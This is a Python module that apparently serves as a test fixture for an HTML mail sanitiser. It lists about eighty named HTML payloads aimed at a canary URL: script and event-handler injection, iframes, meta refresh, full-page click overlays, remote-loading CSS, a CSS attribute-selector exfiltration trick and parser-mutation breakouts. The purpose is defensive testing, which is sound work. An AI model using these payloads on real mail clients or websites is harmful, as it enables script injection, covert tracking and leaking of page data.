"""
Mails that try to do more than be displayed.

`@` stands for the address of the canary, followed by the attack's name.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """
    One attack in the HTML of a mail.

    *live* means that the attack works in a browser without protection, which a test proves;
    *click* means that it needs a click, which the test performs.
    """

    name: str
    html: str
    live: bool = True
    click: bool = False


_COVER = "position:fixed;inset:0;width:100%;height:100%;z-index:9"
_CALL = "new Image().src='@'"
_CALLED = f"document.title='owned';{_CALL}"

ATTACKS = (
    Attack(name="script", html=f"<script>{_CALLED}</script>"),
    Attack(name="script-remote", html="<script src='@'></script>"),
    Attack(name="script-module", html="<script type=module src='@'></script>"),
    Attack(name="handler-error", html=f'<img src=data:, onerror="{_CALLED}">'),
    Attack(name="handler-load", html=f'<body onload="{_CALLED}">'),
    Attack(
        name="handler-toggle",
        html=f'<details open ontoggle="{_CALLED}"><summary>x</summary></details>',
    ),
    Attack(name="handler-focus", html=f'<input autofocus onfocus="{_CALLED}">'),
    Attack(
        name="handler-animation",
        html=f"<style>@keyframes x{{}}</style><b style='animation:x 1s' onanimationstart=\"{_CALLED}\">x</b>".replace(
            "@keyframes", "\\40keyframes"
        ),
        live=False,
    ),
    Attack(
        name="handler-click",
        html=f"<div style='{_COVER}' onclick=\"{_CALLED}\">x</div>",
        click=True,
    ),
    Attack(name="meta-refresh", html="<meta http-equiv=refresh content='0;url=@'>"),
    Attack(
        name="meta-refresh-script",
        html="<meta http-equiv=refresh content=\"0;url=javascript:document.title='owned'\">",
        live=False,
    ),
    Attack(name="base", html="<base href='@/'><img src=relative.png>"),
    Attack(
        name="base-target",
        html=f"<base href='@/' target=_top><a href=there style='{_COVER}'>x</a>",
        click=True,
    ),
    Attack(
        name="form-click",
        html=f"<form action='@' method=get><button style='{_COVER}'>x</button></form>",
        click=True,
    ),
    Attack(
        name="form-formaction",
        html=f"<form><button formaction='@' style='{_COVER}'>x</button></form>",
        click=True,
    ),
    Attack(
        name="form-image",
        html=f"<form action='@'><input type=image src='@' style='{_COVER}'></form>",
    ),
    Attack(name="form-script", html="<form action='@' id=f></form><script>f.submit()</script>"),
    Attack(name="link-click", html=f"<a href='@' style='{_COVER}'>x</a>", click=True),
    Attack(name="link-top", html=f"<a href='@' target=_top style='{_COVER}'>x</a>", click=True),
    Attack(name="link-popup", html=f"<a href='@' target=_blank style='{_COVER}'>x</a>", click=True),
    Attack(
        name="link-ping",
        html=f"<a href='#x' ping='@' style='{_COVER}'>x</a>",
        click=True,
        live=False,
    ),
    Attack(name="link-download", html=f"<a href='@' download style='{_COVER}'>x</a>", click=True),
    Attack(
        name="link-javascript",
        html=f"<a href=\"javascript:void({_CALL})\" style='{_COVER}'>x</a>",
        click=True,
    ),
    Attack(
        name="link-area",
        html=f"<img usemap=#m src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' style='{_COVER}'><map name=m><area shape=default href='@'></map>",
        click=True,
        live=False,
    ),
    Attack(
        name="srcdoc",
        html="<iframe srcdoc=\"<script>parent.document.title='owned';new Image().src='@'</script>\"></iframe>",
    ),
    Attack(
        name="srcdoc-nested",
        html="<iframe srcdoc=\"<iframe srcdoc='&lt;img src=@&gt;'></iframe>\"></iframe>",
    ),
    Attack(name="iframe", html="<iframe src='@'></iframe>"),
    Attack(name="iframe-data", html="<iframe src=\"data:text/html,<img src='@'>\"></iframe>"),
    Attack(name="iframe-unclosed", html="<iframe src='@'>"),
    Attack(name="frameset", html="<frameset><frame src='@'></frameset>"),
    Attack(name="object", html="<object data='@' type=text/html></object>"),
    Attack(name="embed", html="<embed src='@' type=text/html>"),
    Attack(name="image", html="<img src='@'>"),
    Attack(name="image-srcset", html="<img srcset='@ 1x'>"),
    Attack(name="image-picture", html="<picture><source srcset='@'><img></picture>"),
    Attack(name="image-background", html="<table background='@'><tr><td>x</td></tr></table>"),
    Attack(name="image-body", html="<body background='@'>x"),
    Attack(name="image-input", html="<input type=image src='@'>"),
    Attack(name="video-poster", html="<video poster='@'></video>"),
    Attack(name="audio", html="<audio src='@' autoplay preload=auto></audio>"),
    Attack(name="track", html="<video src='@' preload=auto><track default src='@'></video>"),
    Attack(name="svg-script", html=f"<svg><script>{_CALLED}</script></svg>"),
    Attack(name="svg-image", html="<svg><image href='@' width=9 height=9 /></svg>"),
    Attack(name="svg-use", html="<svg><use href='@#x'/></svg>", live=False),
    Attack(
        name="svg-foreign",
        html="<svg><foreignObject width=99 height=99><img xmlns='http://www.w3.org/1999/xhtml' src='@'></foreignObject></svg>",
    ),
    Attack(
        name="svg-link",
        html=f"<svg style='{_COVER}'><a href='@'><rect width=9999 height=9999 /></a></svg>",
        click=True,
    ),
    Attack(
        name="svg-data-image",
        html="<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='@'/></svg>\">",
        live=False,
    ),
    Attack(
        name="math-link",
        html=f"<math style='{_COVER}'><mtext href='@'>x</mtext></math>",
        click=True,
        live=False,
    ),
    Attack(
        name="math-mutation",
        html='<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=@&gt;">',
        live=False,
    ),
    Attack(name="css-link", html="<link rel=stylesheet href='@'>"),
    Attack(name="css-import", html="<style>@import '@';</style>".replace("@import", "\x00import")),
    Attack(name="css-import-url", html="<style>\x00import url(@);</style>"),
    Attack(name="css-background", html="<style>body{background:url(@)}</style>"),
    Attack(name="css-escaped", html="<style>body{background:\\75 rl(@)}</style>"),
    Attack(name="css-variable", html="<style>body{--x:url('@');background:var(--x)}</style>"),
    Attack(
        name="css-variable-escaped", html="<style>body{--x:\\75 rl(@);background:var(--x)}</style>"
    ),
    Attack(name="css-image-set", html="<style>body{background:image-set('@' 1x)}</style>"),
    Attack(
        name="css-font",
        html="<style>\x00font-face{font-family:x;src:url(@)}*{font-family:x}</style>text",
    ),
    Attack(name="css-inline", html="<p style='background:url(@)'>x</p>"),
    Attack(name="css-list", html="<ul style='list-style-image:url(@)'><li>x</ul>"),
    Attack(
        name="css-cursor",
        html="<p style='cursor:url(@),auto;position:fixed;inset:0'>x</p>",
        live=False,
    ),
    Attack(name="css-content", html="<style>p:before{content:url(@)}</style><p>x</p>"),
    Attack(
        name="css-exfiltration",
        html="<style>input[value^=s]{background:url(@)}</style><input value=secret>",
    ),
    Attack(
        name="css-end-tag", html="<style>p{content:'\\3c/style>\\3cimg src=@>'}</style>", live=False
    ),
    Attack(name="preconnect", html="<link rel=preconnect href='@'>"),
    Attack(name="preload", html="<link rel=preload as=image href='@'>"),
    Attack(name="prefetch", html="<link rel=prefetch href='@'>", live=False),
    Attack(name="icon", html="<link rel=icon href='@'>", live=False),
    Attack(name="manifest", html="<link rel=manifest href='@'>", live=False),
    Attack(name="template", html="<template><img src='@'></template>", live=False),
    Attack(
        name="template-shadow",
        html="<div><template shadowrootmode=open><img src='@'></template></div>",
    ),
    Attack(
        name="noscript",
        html="<noscript><p title=\"</noscript><img src='@'>\"></noscript>",
        live=False,
    ),
    Attack(name="comment", html="<!--><img src='@'>-->"),
    Attack(name="comment-bang", html="<!-- --!><img src='@'>"),
    Attack(name="textarea", html="<textarea></textarea ><img src='@'></textarea>"),
    Attack(name="plaintext", html="<img src='@'><plaintext>"),
    Attack(name="entities", html="<img src='&#104;ttp&colon;//&#64;'>", live=False),
    Attack(
        name="policy-of-its-own",
        html="<meta http-equiv=Content-Security-Policy content=\"default-src *\"><img src='@'>",
    ),
    Attack(
        name="end-of-script",
        html="</script><script>document.title='owned'</script><!--<script>",
        live=False,
    ),
    Attack(
        name="end-of-document",
        html="</iframe></template></body></html><script>document.title='owned'</script><img src='@'>",
    ),
    Attack(name="end-of-attribute", html="\"></iframe><img src='@'>' onload=\""),
)


def armed(attack: Attack, url: str) -> str:
    """The attack's HTML, aimed at *url*."""
    return (
        attack.html.replace("@", f"{url}/{attack.name}").replace("\x00", "@").replace("\\40", "@")
    )
